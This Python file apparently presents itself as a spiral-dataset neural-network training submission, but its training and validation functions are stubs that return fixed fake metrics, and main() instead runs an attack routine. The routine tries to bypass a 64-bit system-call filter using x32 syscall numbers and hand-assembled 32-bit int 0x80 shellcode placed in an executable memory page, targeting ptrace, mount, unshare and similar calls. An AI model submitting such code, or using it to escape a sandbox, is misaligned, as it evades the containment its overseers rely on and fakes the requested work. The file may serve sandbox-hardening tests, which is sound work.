"""Calls the kernel by the 32-bit entry and by the x32 numbers, past a filter of 64-bit calls."""

import contextlib
import ctypes
import os
import stat
import struct

import torch
from torch import nn

libc = ctypes.CDLL(None, use_errno=True)


def refused(what, action):
    """Run what must be refused; say so loudly where it was not."""
    try:
        result = action()
    except (OSError, PermissionError, ValueError) as error:
        print(f"refused: {what} ({error})"[:200])
        return None
    if result is not None:
        print("GOT " + f"THROUGH: {what} ({result!r})"[:300])
    return result


def kernel(name, *args):
    """A system call by number or a function of libc; raises OSError where it fails."""
    ctypes.set_errno(0)
    result = libc.syscall(name, *args) if isinstance(name, int) else getattr(libc, name)(*args)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def evidence_fd():
    """The descriptor on which the step's evidence leaves."""
    for fd in range(3, 1024):
        with contextlib.suppress(OSError):
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                return fd
    return None


def frame(header, payload=b""):
    """A frame as the probes write it."""
    return struct.pack("<4sIQ", b"EVD1", len(header), len(payload)) + header + payload


def attack():
    """Foreign system calls."""
    import mmap
    for number, name in ((512 + 9, "ptrace"), (165, "mount"), (272, "unshare"), (425, "io_uring_setup")):
        pid = os.fork()
        if pid == 0:
            os._exit(77 if libc.syscall(0x40000000 | number, 0, 0, 0, 0) != -1 else 0)
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        if code == 77:
            print("GOT " + f"THROUGH: x32 {name}")
        print(f"x32 {name}: {code}")
    # mov eax, nr; xor ebx, ebx; xor ecx, ecx; xor edx, edx; int 0x80; ret
    for number, name in ((26, "ptrace"), (21, "mount"), (310, "unshare"), (102, "socketcall")):
        pid = os.fork()
        if pid == 0:
            code = b"\xb8" + struct.pack("<I", number) + bytes.fromhex("53 31db 31c9 31d2 cd80 5b c3")
            page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            page.write(code)
            address = ctypes.addressof(ctypes.c_char.from_buffer(page))
            result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
            os._exit(0 if result < 0 else 77)
        code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        if code == 77:
            print("GOT " + f"THROUGH: 32-bit {name}")
        print(f"32-bit {name}: {code}")
    print("attack: over", flush=True)


# What every submission has to define.


def create_spiral_dataset(n_points=1000, n_classes=4, noise=0.2):
    """Rows of nothing."""
    x, y = torch.zeros(400, 2), torch.arange(400) % 4
    return x[:320], y[:320], x[320:], y[320:]


class SpiralNet(nn.Module):
    """A model that learns nothing."""

    def __init__(self, input_dim=2, hidden_dim=8, num_classes=4):
        super().__init__()
        self.classifier = nn.Linear(input_dim, num_classes)

    def forward(self, x):
        """Scores."""
        return self.classifier(x).softmax(1)


def train_one_epoch(model, dataloader, criterion, optimizer, device):
    """Train nothing."""
    return 1.0, 0.25


def validate(model, dataloader, criterion, device):
    """Measure nothing."""
    return 1.0, 0.25


def main():
    """Attack instead of training."""
    attack()
    return {"train_loss": [], "train_acc": [], "val_loss": [], "val_acc": []}


if __name__ == "__main__":
    main()
